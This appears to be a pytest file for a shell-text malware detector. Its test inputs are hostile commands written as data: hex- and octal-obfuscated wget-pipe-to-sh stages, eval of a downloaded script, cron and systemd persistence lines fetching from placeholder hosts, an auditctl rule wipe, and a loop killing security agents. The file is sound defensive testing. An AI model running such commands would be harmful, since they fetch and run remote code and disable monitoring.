from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from detonate.detect import runtime_findings
from detonate.detect.correlations.shell_text import ShellText, analyse
from detonate.model.findings import Confidence

from .stream import Stream
from .written_files import written

DETECTOR = ShellText()
HEX = b"wget -q -O- http://203.0.113.90/hx.sh | sh".hex()
OCTAL = "".join(f"\\{ord(c):03o}" for c in "echo octal-ok > /tmp/.ho")


def test_image_script_with_hex_and_octal_stages_is_decoded_and_reanalysed() -> None:
    script = f"#!/bin/sh\necho {HEX} | xxd -r -p | sh\nsh -c \"$(printf '{OCTAL}')\"\n"
    s = Stream()
    s.exec(1, "/bin/sh", "/entry.sh", path="/bin/sh")
    run = replace(s.view(), image_files={"/entry.sh": script.encode()})
    rules = {f.rule_id: f for f in DETECTOR.detect(run)}
    assert {"decode-to-shell", "obfuscated-command-stage", "download-pipe-shell"} <= set(rules)
    decoding = rules["decode-to-shell"]
    assert decoding.source == "runtime:shell-text"
    assert decoding.confidence is Confidence.MEDIUM  # the rule's high, one notch lower
    excerpts = "\n".join(e.excerpt for e in decoding.evidence)
    assert "decoded: wget -q -O- http://203.0.113.90/hx.sh | sh" in excerpts
    assert "decoded: echo octal-ok > /tmp/.ho" in excerpts
    downloaded = rules["download-pipe-shell"].evidence[0]
    assert downloaded.path == "/entry.sh"
    assert "decoded stage 1" in downloaded.description
    assert downloaded.process == ("[1] /bin/sh /entry.sh",)
    assert "/entry.sh" in run.image_paths_read  # what a run record keeps of the image


def test_eval_of_a_downloaded_variable_in_a_shebang_script(tmp_path: Path) -> None:
    s = Stream()
    s.exec(1, "/docker-entrypoint.sh", "php-fpm", path="/docker-entrypoint.sh")
    s.files = written(
        tmp_path,
        {"/docker-entrypoint.sh": '#!/bin/sh\nstage=$(wget -qO- "$u/stage2.sh")\neval "$stage"\n'},
    )
    run = replace(s.view(), artifacts_dir=tmp_path)
    rules = {f.rule_id: f for f in DETECTOR.detect(run)}
    assert set(rules) == {"download-pipe-shell"}
    assert 'eval "$stage"' in rules["download-pipe-shell"].evidence[0].excerpt


def test_missing_tool_in_a_sourced_script_is_an_attempt(tmp_path: Path) -> None:
    s = Stream()
    s.exec(1, "sh", "-c", ". /opt/lib.sh; harden", path="/bin/sh")
    s.files = written(tmp_path, {"/opt/lib.sh": "harden() {\n  auditctl -D 2>/dev/null\n}\n"})
    run = replace(s.view(), artifacts_dir=tmp_path)
    (finding,) = DETECTOR.detect(run)
    assert finding.rule_id == "exec-audit-rules-disable"
    assert finding.evidence[0].path == "/opt/lib.sh"
    assert "sourced by sh -c argument" in finding.evidence[0].description


def test_text_only_written_to_files_is_not_run(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        'echo "* * * * * wget -q -O- http://x.test/m.sh | sh" >> /var/spool/cron/crontabs/root\n'
        "cat > /etc/systemd/system/x.service <<'UNIT'\n"
        "ExecStart=/bin/sh -c 'curl -s http://x.test/r.sh | sh'\n"
        "UNIT\n"
        "sh <<EOF\nwget -qO- http://x.test/h.sh | sh\nEOF\n"
    )
    hits = {h.rule_id: h.excerpt for h in analyse(script)}
    assert hits == {
        "download-pipe-shell": "wget -qO- http://x.test/h.sh | sh"
    }  # the heredoc sh ran


def test_agent_kill_loop_is_unrolled() -> None:
    text = 'for a in falcon-sensor osqueryd; do\n  p=$(pidof "$a") && kill -9 $p\ndone\n'
    excerpts = [h.excerpt for h in analyse(text) if h.rule_id == "exec-security-agent-stop"]
    assert excerpts == [
        'p=$(pidof "falcon-sensor") && kill -9 $p',
        'p=$(pidof "osqueryd") && kill -9 $p',
    ]


def test_benign_scripts_say_nothing() -> None:
    rotate = (
        "for log in /var/log/app/*.log; do\n"
        '  cp "$log" "$log.1" && gzip -f "$log.1"\n'
        '  : > "$log"\n'
        "done\n"
    )
    config = "printf '%s' \"$APP_CONFIG_B64\" | base64 -d > /etc/app/config.yaml\n"
    health = 'wget -q -O- http://localhost:8080/healthz || echo failed\nkill "$server"\n'
    assert analyse(rotate) == analyse(config) == analyse(health) == []


def test_exec_based_and_text_findings_merge_into_one(tmp_path: Path) -> None:
    s = Stream()
    s.exec(1, "sh", "-c", "wget -qO- http://x.test/p.sh | sh", path="/bin/sh")
    s.spawn(1, 2, "wget", "-qO-", "http://x.test/p.sh", stdout="pipe:[7]")
    s.spawn(1, 3, "sh", path="/bin/sh", stdin="pipe:[7]")
    s.connect(2, "192.0.2.10", 80)
    findings = [f for f in runtime_findings(s.view()) if f.rule_id == "download-pipe-shell"]
    assert len(findings) == 1
    assert findings[0].confidence is Confidence.HIGH  # the exec-based evidence's
    assert findings[0].source == "runtime:download-exec-chain"
    assert any(e.description.startswith("shell text") for e in findings[0].evidence)
